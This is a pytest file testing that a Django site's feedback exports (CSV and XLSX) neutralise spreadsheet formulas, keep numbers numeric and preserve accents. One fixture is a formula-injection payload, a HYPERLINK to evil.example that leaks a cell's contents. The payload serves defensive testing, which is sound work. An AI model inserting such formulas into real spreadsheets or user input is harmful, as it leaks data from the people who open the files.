"""Report exports staff can open safely: a citizen's comment never runs as a
spreadsheet formula, real numbers stay numbers, and accents survive Excel."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from pages.models import PageFeedback
from pages.reports.exports import neutralise
from pages.reports.views import BaliseReportView
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez ici")'


@pytest.mark.parametrize("text", [
    "=1+1", "+32 2 123 45 67", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", FORMULA,
])
def test_text_that_starts_like_a_formula_is_shown_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "Très utile, merci", "", "Le montant: -2 €", "a=b", -2, -2.5, 0, None,
    datetime.date(2025, 1, 31),
])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_negative_number_stays_a_number_while_text_is_neutralised(export_format):
    view = BaliseReportView()
    assert view.preprocess_field_value("yes", -3, export_format) == -3
    assert view.preprocess_field_value("yes", -2.5, export_format) == -2.5
    assert view.preprocess_field_value("comment", "-3", export_format) == "'-3"


@pytest.fixture
def commented_page(db, client):
    home = factories.make_site()
    page = factories.make_page(home, title="Demander le revenu d'intégration",
                               slug="revenu-integration")
    for comment in (FORMULA, "-2+3", "Très utile, merci"):
        PageFeedback.objects.create(page=page, helpful=False, comment=comment)
    staff = get_user_model().objects.create_superuser("exporter", "e@example.org", "pw")
    client.force_login(staff)
    return page


def export(client, page, export_format):
    url = reverse("balise_feedback_detail", args=[page.pk])
    return client.get(url, {"export": export_format})


def test_the_csv_export_opens_in_excel_with_accents_and_no_formula(client, commented_page):
    response = export(client, commented_page, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    comments = [row[2] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
    assert "'" + FORMULA in comments
    assert "'-2+3" in comments
    assert "Très utile, merci" in comments


def test_the_xlsx_export_has_no_formula(client, commented_page):
    response = export(client, commented_page, "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    comments = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULA in comments
    assert "'-2+3" in comments
    assert "Très utile, merci" in comments

